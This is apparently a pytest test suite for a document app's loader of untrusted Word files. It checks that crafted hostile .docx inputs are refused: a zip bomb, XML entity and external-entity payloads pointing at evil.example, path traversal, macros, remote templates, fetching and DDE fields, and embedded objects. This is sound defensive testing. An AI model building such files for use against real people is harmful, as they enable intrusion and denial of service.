"""A file from outside is opened only where nothing in it acts, links, embeds or swells; each refusal says what and what to do."""

from __future__ import annotations

from collections.abc import Callable
from io import BytesIO
from pathlib import Path
from zipfile import ZIP_BZIP2, ZIP_DEFLATED, ZipFile

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from jitdesk.documents import reading, untrusted
from jitdesk.documents.word import write
from jitdesk.kernel import words
from jitdesk.kernel.errors import Refused
from jitdesk.system import resources
from tests.documents.files import MAIN, TYPES, edited, packed, parts, related, with_part
from tests.documents.sample import letter_of, request, witness

GOOD = write(letter_of(request(), witness()), resources.read_bytes("templates/letter.docx"))
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)
TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"


def without(name: str) -> bytes:
    return packed({part: data for part, data in parts(GOOD).items() if part != name})


def main(before: str, after: str) -> bytes:
    return edited(GOOD, lambda xml: xml.replace(before, after, 1))


def typed(before: str, after: str) -> bytes:
    return edited(GOOD, lambda xml: xml.replace(before, after, 1), TYPES)


def field(code: str) -> bytes:
    return main("<w:body>", f'<w:body><w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>{code}</w:instrText></w:r></w:p>')


def locked() -> bytes:
    data = bytearray(GOOD)
    at = data.index(b"PK\x01\x02")
    data[at + 8] |= 1
    return bytes(data)


def other_method() -> bytes:
    out = BytesIO()
    with ZipFile(out, "w", ZIP_BZIP2) as zipped:
        for name, data in parts(GOOD).items():
            zipped.writestr(name, data)
    return out.getvalue()


def bomb() -> bytes:
    out = BytesIO()
    with ZipFile(out, "w", ZIP_DEFLATED) as zipped:
        for name, data in parts(GOOD).items():
            zipped.writestr(name, data)
        with zipped.open("word/media/image1.png", "w", force_zip64=True) as stream:
            for _ in range(101):
                stream.write(bytes(1_000_000))
    return out.getvalue()


def declared(text: str, encoding: str = "utf-8") -> bytes:
    xml = parts(GOOD)[MAIN].decode()
    begin = xml.index("<w:document")
    head = f'<?xml version="1.0" encoding="{encoding}"?>'
    return with_part(GOOD, MAIN, (head + text + xml[begin:]).encode(encoding))


HOSTILE: dict[str, tuple[str, Callable[[], bytes]]] = {
    "text": ("word.not_word", lambda: b"not a document at all"),
    "empty": ("word.not_word", lambda: b""),
    "pdf": ("word.not_word", lambda: b"%PDF-1.7\n"),
    "another zip": ("word.not_word", lambda: packed({"a.txt": b"x"})),
    "spreadsheet": ("word.not_word", lambda: typed(TYPE, TYPE.replace("wordprocessingml.document", "spreadsheetml.sheet"))),
    "template": ("word.not_word", lambda: typed(TYPE, TYPE.replace(".document.main", ".template.main"))),
    "old format or encrypted": ("word.encrypted", lambda: OLE),
    "encrypted zip": ("word.encrypted", locked),
    "50 MB": ("word.too_large", lambda: GOOD + bytes(50_000_000)),
    "cut": ("word.damaged", lambda: GOOD[: len(GOOD) // 2]),
    "altered": ("word.damaged", lambda: GOOD.replace(b"PK\x01\x02", b"PK\x01\x03")),
    "other method": ("word.damaged", other_method),
    "path": ("word.damaged", lambda: with_part(GOOD, "word/../../x.xml", b"<x/>")),
    "same name twice": ("word.damaged", lambda: with_part(GOOD, "WORD/document.xml", b"<x/>")),
    "no XML": ("word.damaged", lambda: main("<w:body>", "<w:body><")),
    "other encoding": ("word.damaged", lambda: declared("", "utf-7")),
    "deep": ("word.damaged", lambda: main("<w:body>", "<w:body>" + "<w:x>" * 300 + "</w:x>" * 300)),
    "bomb": ("word.swells", bomb),
    "many parts": ("word.swells", lambda: packed({**parts(GOOD), **{f"x{n}.txt": b"" for n in range(2_001)}})),
    "long part": ("word.swells", lambda: main("<w:body>", "<w:body>" + " " * 20_000_001)),
    "many tags": ("word.swells", lambda: main("<w:body>", "<w:body>" + "<w:p/>" * 2_000_001)),
    "document type": ("word.dtd", lambda: declared("<!DOCTYPE w:document>")),
    "entities": ("word.dtd", lambda: declared('<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]>')),
    "outer entity": ("word.dtd", lambda: declared('<!DOCTYPE x [<!ENTITY a SYSTEM "https://evil.example/x">]>')),
    "document type in a part of another name": ("word.dtd", lambda: with_part(GOOD, "word/x.bin", b"<!DOCTYPE x><x/>")),
    "document type in UTF-16": ("word.dtd", lambda: declared("<!DOCTYPE w:document>", "utf-16")),
    "macros": ("word.macros", lambda: with_part(GOOD, "word/vbaProject.bin", OLE)),
    "macros by type": ("word.macros", lambda: typed(TYPE, "application/vnd.ms-word.document.macroEnabled.main+xml")),
    "remote template": ("word.external", lambda: related(GOOD, "attachedTemplate", "https://evil.example/x.dotm", "External")),
    "linked picture": ("word.external", lambda: related(GOOD, "image", "https://evil.example/x.png", "External")),
    "link into a network": ("word.external", lambda: related(GOOD, "hyperlink", "\\\\host\\share", "External")),
    "link of odd case": ("word.external", lambda: related(GOOD, "image", "x.png", "external")),
    "field that fetches": ("word.external", lambda: field("INCLUDEPICTURE &quot;https://evil.example&quot;")),
    "field that starts": ("word.external", lambda: field(" ddeauto c:\\\\x")),
    "object": ("word.embedded", lambda: related(with_part(GOOD, "word/embeddings/x.bin", b"x"), "oleObject", "embeddings/x.bin")),
    "object by its bytes": ("word.embedded", lambda: with_part(GOOD, "word/media/image1.png", OLE)),
    "ActiveX": ("word.embedded", lambda: with_part(GOOD, "word/activeX/activeX1.xml", b"<x/>")),
    "other format within": ("word.embedded", lambda: related(with_part(GOOD, "word/x.html", b"x"), "aFChunk", "x.html")),
    "no main part": ("word.no_main", lambda: without(MAIN)),
    "no relations": ("word.no_main", lambda: without("_rels/.rels")),
    "strict": ("word.strict", lambda: main("<w:body>", '<w:body xmlns:w="http://purl.oclc.org/ooxml/wordprocessingml/main">')),
}


@pytest.mark.parametrize("what", HOSTILE)
def test_a_hostile_file_is_refused_in_one_sentence(what: str, tmp_path: Path) -> None:
    key, make = HOSTILE[what]
    (tmp_path / "edited.docx").write_bytes(make())
    with pytest.raises(Refused) as refused:
        untrusted.load(tmp_path / "edited.docx")
    assert refused.value.key == key
    assert words.known(key)
    assert "edited.docx" in str(refused.value)
    assert "{" not in str(refused.value)


def test_a_file_that_is_not_there_is_refused(tmp_path: Path) -> None:
    with pytest.raises(Refused, match="cannot be read"):
        untrusted.load(tmp_path / "none.docx")
    with pytest.raises(Refused, match="cannot be read"):
        untrusted.load(tmp_path)


def test_what_is_nested_as_deep_as_can_be_parsed_is_read() -> None:
    nested = "<w:sdt><w:sdtContent>" * 120 + "<w:p><w:r><w:t>deep</w:t></w:r></w:p>" + "</w:sdtContent></w:sdt>" * 120
    assert "deep" in reading.read(untrusted.opened(main("<w:body>", f"<w:body>{nested}"), "x")).outside


def test_links_to_the_web_that_a_person_would_have_to_follow_are_allowed() -> None:
    document = related(GOOD, "hyperlink", "https://ministry.example/", "External")
    assert reading.read(untrusted.opened(document, "x")).controls


def test_what_is_refused_has_a_case_each() -> None:
    keys = {key for key, _ in HOSTILE.values()} | {"word.unreadable"}
    table = {f"word.{name}" for name in ("too_large", "not_word", "encrypted", "strict", "damaged", "swells", "dtd", "macros")}
    assert keys == table | {"word.external", "word.embedded", "word.no_main", "word.unreadable"}


def opened_or_refused(data: bytes) -> str:
    try:
        reading.read(untrusted.opened(data, "x"))
    except Refused as refused:
        return refused.key
    return "word.read"


@settings(max_examples=150, deadline=None)
@given(st.integers(0, len(GOOD) - 1), st.integers(0, 255))
def test_an_altered_byte_is_refused_or_read(at: int, byte: int) -> None:
    assert opened_or_refused(GOOD[:at] + bytes([byte]) + GOOD[at + 1 :]).startswith("word.")
